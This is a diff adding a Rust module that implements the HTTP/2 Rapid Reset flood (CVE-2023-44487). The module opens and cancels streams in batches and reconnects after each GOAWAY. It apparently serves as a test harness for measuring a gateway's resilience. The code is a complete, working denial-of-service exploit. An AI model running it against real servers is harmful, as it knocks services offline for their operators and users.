@@ -1,0 +1,97 @@
+//! A client that opens HTTP/2 streams and resets each at once, as fast as the gateway takes them (CVE-2023-44487), and
+//! comes again when it is sent away.
+
+use std::io::{self, Read as _, Write as _};
+use std::net::{SocketAddr, TcpStream};
+use std::time::{Duration, Instant};
+
+/// That are taken, over as many connections as it takes.
+pub(crate) const RESETS: usize = 100_000;
+/// Streams that are written at once, and taken before there are more.
+const BATCH: usize = 50;
+/// A gateway that does not answer a ping for so long has enough.
+const ANSWERED: Duration = Duration::from_secs(5);
+/// A gateway that takes no more of them in this time has won.
+const PATIENCE: Duration = Duration::from_secs(60);
+/// RFC 9113 §3.4, and empty SETTINGS.
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
+const HEADERS: u8 = 1;
+const RST_STREAM: u8 = 3;
+const PING: u8 = 6;
+const GOAWAY: u8 = 7;
+/// Of a ping.
+const ACK: u8 = 1;
+/// `END_STREAM` and `END_HEADERS`.
+const WHOLE: u8 = 5;
+/// RFC 9113 §7.
+const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
+/// `:method: GET`, `:scheme: http`, `:path: /` by their numbers, `:authority` in letters (RFC 7541).
+const BLOCK: &[u8] = b"\x82\x86\x84\x01\x09127.0.0.1";
+
+/// What became of it.
+pub(crate) struct Flooded {
+    pub(crate) resets: usize,
+    pub(crate) connections: usize,
+    pub(crate) took: Duration,
+}
+
+/// Sends them all, or until its patience ends.
+pub(crate) fn flood(gateway: SocketAddr) -> Flooded {
+    let begin = Instant::now();
+    let (mut resets, mut connections) = (0, 0);
+    while resets < RESETS && begin.elapsed() < PATIENCE {
+        connections += 1;
+        // However the connection ends: another one follows.
+        let _ = flood_one(gateway, &mut resets);
+    }
+    Flooded { resets, connections, took: begin.elapsed() }
+}
+
+/// Until the gateway closes the connection, or says that it will.
+fn flood_one(gateway: SocketAddr, resets: &mut usize) -> io::Result<()> {
+    let mut socket = TcpStream::connect(gateway)?;
+    socket.set_nodelay(true)?;
+    socket.set_write_timeout(Some(ANSWERED))?;
+    socket.set_read_timeout(Some(ANSWERED))?;
+    socket.write_all(PREFACE)?;
+    let mut stream = 1;
+    while *resets < RESETS {
+        let mut bytes = Vec::with_capacity(BATCH * 64);
+        for _ in 0..BATCH {
+            frame(&mut bytes, HEADERS, WHOLE, stream, BLOCK);
+            frame(&mut bytes, RST_STREAM, 0, stream, &CANCEL);
+            stream += 2;
+        }
+        frame(&mut bytes, PING, 0, 0, &[0; 8]);
+        socket.write_all(&bytes)?;
+        if !is_taken(&mut socket)? {
+            return Ok(());
+        }
+        *resets += BATCH;
+    }
+    Ok(())
+}
+
+/// Whether the ping behind a batch is answered: all of it has been taken by then.
+fn is_taken(socket: &mut TcpStream) -> io::Result<bool> {
+    loop {
+        let mut head = [0; 9];
+        socket.read_exact(&mut head)?;
+        let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
+        socket.read_exact(&mut vec![0; length])?;
+        match (head[3], head[4]) {
+            (PING, ACK) => return Ok(true),
+            (GOAWAY, _) => return Ok(false),
+            // What is said of the streams interests nobody here.
+            _ => {}
+        }
+    }
+}
+
+fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
+    let length = u32::try_from(payload.len()).expect("a frame is short").to_be_bytes();
+    bytes.extend_from_slice(&length[1..]);
+    bytes.extend_from_slice(&[kind, flags]);
+    bytes.extend_from_slice(&stream.to_be_bytes());
+    bytes.extend_from_slice(payload);
+}
